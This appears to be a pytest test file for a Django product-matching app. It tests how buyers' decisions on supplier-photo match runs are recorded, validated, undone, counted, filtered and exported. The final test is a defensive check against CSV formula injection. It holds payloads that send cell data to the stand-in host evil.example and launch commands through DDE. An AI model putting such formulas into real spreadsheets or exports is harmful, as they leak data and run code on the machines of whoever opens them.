"""Buyers' decisions on a match run: recorded, validated, undone, confirmed in bulk, counted,
filtered, exported, and kept when the report is re-published."""

from __future__ import annotations

import csv
import io
import uuid
from pathlib import Path

import pytest
from django.core.files import File
from lookalike_core.match_report import ERROR, NEW, SAME, SIMILAR, MatchRow, ReportWriter

from similarity.errors import InvalidDecision
from similarity.models import MatchDecision, MatchRun
from similarity.selectors.matching import (
    REVIEW_COLUMNS,
    match_run_csv,
    match_run_decision_counts,
    match_run_rows,
    match_runs_with_decision_counts,
)
from similarity.services.matching.decisions import (
    match_decision_record,
    match_decision_undo,
    match_same_confirm,
)
from similarity.storages import match_run_folder_new, matching_storage, storage_file_replace
from tests.factories import ArticleFactory

pytestmark = pytest.mark.django_db

K = 3
ROWS = [
    MatchRow("same-1", SAME, [("A1", 0.01), ("A2", 0.3), ("A3", 0.4)]),
    MatchRow("same-2", SAME, [("A2", 0.02), ("A1", 0.35)]),
    MatchRow("alike", SIMILAR, [("A3", 0.2), ("A1", 0.3)]),
    MatchRow("nothing", NEW, [("A1", 0.8)]),
    MatchRow("broken", ERROR, error="not an image"),
]


def report_publish(run: MatchRun, rows: list[MatchRow], tmp: Path) -> None:
    """Write ``rows`` as the run's report and publish it under a new name, as a run does."""
    local = tmp / f"report-{uuid.uuid4().hex}.csv"
    with ReportWriter(path=local, k=run.k, extra_columns=[]) as writer:
        for row in rows:
            writer.write(row)
    name = f"report-{uuid.uuid4().hex[:12]}.csv"
    with local.open("rb") as handle:
        storage_file_replace(storage=matching_storage(), name=f"{run.folder}/{name}",
                             content=File(handle, name=name))
    counts = {verdict: sum(row.verdict == verdict for row in rows)
              for verdict in (SAME, SIMILAR, NEW, ERROR)}
    MatchRun.objects.filter(pk=run.pk).update(
        report_file=name, status=MatchRun.Status.SUCCEEDED, same_count=counts[SAME],
        similar_count=counts[SIMILAR], new_count=counts[NEW], error_count=counts[ERROR])
    run.refresh_from_db()


def published_run(tmp: Path, rows: list[MatchRow] = ROWS) -> MatchRun:
    """A finished run whose report holds ``rows``; articles A1-A4 in the catalog."""
    for number in range(1, 5):
        ArticleFactory(article_id=f"A{number}")
    run = MatchRun.objects.create(source_name="supplier.csv",
                                  source_kind=MatchRun.SourceKind.FEED, k=K)
    run.folder = match_run_folder_new(run.pk)
    run.save(update_fields=["folder"])
    report_publish(run, rows, tmp)
    return run


@pytest.fixture
def run(tmp_path: Path) -> MatchRun:
    return published_run(tmp_path)


def test_a_decision_is_recorded_with_who_and_the_verdict_and_replaced_when_redecided(run):
    made = match_decision_record(run=run, supplier_ref="alike", decision="confirmed",
                                 article_id="A3", decided_by="buyer")
    assert (made.article_id, made.verdict, made.decided_by) == ("A3", SIMILAR, "buyer")
    assert made.decided_at is not None
    match_decision_record(run=run, supplier_ref="alike", decision="new", decided_by="other")
    only = MatchDecision.objects.get()
    assert (only.decision, only.article_id, only.decided_by) == ("new", "", "other")


@pytest.mark.parametrize(("ref", "decision", "article_id", "message"), [
    ("ghost", "new", "", "match run #{pk} has no supplier photo 'ghost'"),
    ("alike", "confirmed", "NOPE", "no catalog article has the id 'NOPE'"),
    ("alike", "confirmed", "", "confirming 'alike' needs the article it is (article_id)"),
    ("alike", "maybe", "", "decision must be one of confirmed, new, skipped; got 'maybe'"),
    ("alike", "skipped", "A1", "a 'skipped' decision names no article; got 'A1'"),
    # No article id holds a NUL: PostgreSQL refuses it in a query (was a 500 there).
    ("alike", "confirmed", "A1\x00", "no catalog article has the id 'A1\\x00'"),
    ("al\x00ike", "new", "", "match run #{pk} has no supplier photo 'al\\x00ike'"),
])
def test_bad_decisions_say_what_is_wrong_and_record_nothing(run, ref, decision, article_id,
                                                            message):
    with pytest.raises(InvalidDecision) as caught:
        match_decision_record(run=run, supplier_ref=ref, decision=decision,
                              article_id=article_id)
    assert str(caught.value) == message.format(pk=run.pk)
    assert not MatchDecision.objects.exists()


def test_undo_of_a_ref_with_a_nul_is_refused_like_any_unknown_ref(run):
    with pytest.raises(InvalidDecision, match="has no decision to undo"):
        match_decision_undo(run=run, supplier_ref="nothing\x00")


def test_undo_forgets_the_decision_and_refuses_when_there_is_none(run):
    match_decision_record(run=run, supplier_ref="nothing", decision="skipped")
    match_decision_undo(run=run, supplier_ref="nothing")
    assert not MatchDecision.objects.exists()
    with pytest.raises(InvalidDecision, match="has no decision to undo"):
        match_decision_undo(run=run, supplier_ref="nothing")


def test_same_verdicts_are_confirmed_in_bulk_as_their_first_match_keeping_decisions(run):
    match_decision_record(run=run, supplier_ref="same-2", decision="confirmed",
                          article_id="A1", decided_by="buyer")
    outcome = match_same_confirm(run=run, decided_by="bulk")
    assert (outcome.confirmed, outcome.already_decided) == (1, 1)
    decided = {d.supplier_ref: (d.article_id, d.decided_by) for d in MatchDecision.objects.all()}
    assert decided == {"same-1": ("A1", "bulk"), "same-2": ("A1", "buyer")}
    again = match_same_confirm(run=run)
    assert (again.confirmed, again.already_decided) == (0, 2)


def test_counts_filters_and_export_follow_the_decisions(run):
    match_decision_record(run=run, supplier_ref="same-1", decision="confirmed",
                          article_id="A1", decided_by="buyer")
    match_decision_record(run=run, supplier_ref="nothing", decision="new")
    match_decision_record(run=run, supplier_ref="broken", decision="skipped")
    assert match_run_decision_counts(run=run) == {
        "confirmed": 1, "new": 1, "skipped": 1, "undecided": 2}
    annotated = match_runs_with_decision_counts(MatchRun.objects.all()).get()
    assert (annotated.confirmed_count, annotated.marked_new_count,
            annotated.skipped_count) == (1, 1, 1)

    def refs(**filters: str) -> list[str]:
        return [row.supplier_ref for row in match_run_rows(run=run, **filters)]

    assert refs(decision="undecided") == ["same-2", "alike"]
    assert refs(decision="confirmed") == ["same-1"]
    assert refs(verdict=SAME, decision="undecided") == ["same-2"]
    with pytest.raises(ValueError, match="decision must be one of"):
        refs(decision="maybe")

    lines = list(csv.reader(io.StringIO("".join(match_run_csv(run=run)))))
    assert lines[0][-len(REVIEW_COLUMNS):] == list(REVIEW_COLUMNS)
    by_ref = {line[0]: line[-len(REVIEW_COLUMNS):] for line in lines[1:]}
    assert by_ref["same-1"][:3] == ["confirmed", "A1", "buyer"] and by_ref["same-1"][3]
    assert by_ref["alike"] == ["", "", "", ""]
    undecided = list(csv.reader(io.StringIO("".join(
        match_run_csv(run=run, decision="undecided")))))
    assert [line[0] for line in undecided[1:]] == ["same-2", "alike"]


def test_decisions_are_kept_when_the_report_is_published_again(run, tmp_path):
    match_decision_record(run=run, supplier_ref="alike", decision="confirmed", article_id="A3")
    first = run.report_file
    report_publish(run, [*ROWS, MatchRow("late", NEW, [("A4", 0.9)])], tmp_path)
    assert run.report_file != first
    assert match_run_decision_counts(run=run)["confirmed"] == 1
    assert [row.supplier_ref for row in match_run_rows(run=run, decision="confirmed")] == [
        "alike"]
    match_decision_record(run=run, supplier_ref="late", decision="new")  # the new row too


def test_deleting_a_run_deletes_its_decisions(run):
    match_decision_record(run=run, supplier_ref="alike", decision="new")
    run.delete()
    assert not MatchDecision.objects.exists()


def test_the_export_neutralises_spreadsheet_formulas_from_the_supplier(tmp_path):
    """A supplier's ref, error or extra column starting with = + - @ would run as a formula
    when a buyer opens the export in a spreadsheet: such cells are prefixed with a quote."""
    run = published_run(tmp_path, [
        MatchRow('=HYPERLINK("http://evil.example/?"&A1,"x")', NEW, [("A1", 0.8)]),
        MatchRow("@SUM(1+1)*cmd|' /C calc'!A0", ERROR, error="+bad"),
        MatchRow("-2+3", NEW, [("A2", 0.9)]),
        MatchRow("SKU-7", SIMILAR, [("A3", 0.2)]),
    ])
    lines = list(csv.reader(io.StringIO("".join(match_run_csv(run=run)))))
    refs = [line[0] for line in lines[1:]]
    assert refs == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                    "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "SKU-7"]
    assert lines[2][lines[0].index("error")] == "'+bad"
    assert lines[4][2] == "A3"  # ordinary cells untouched
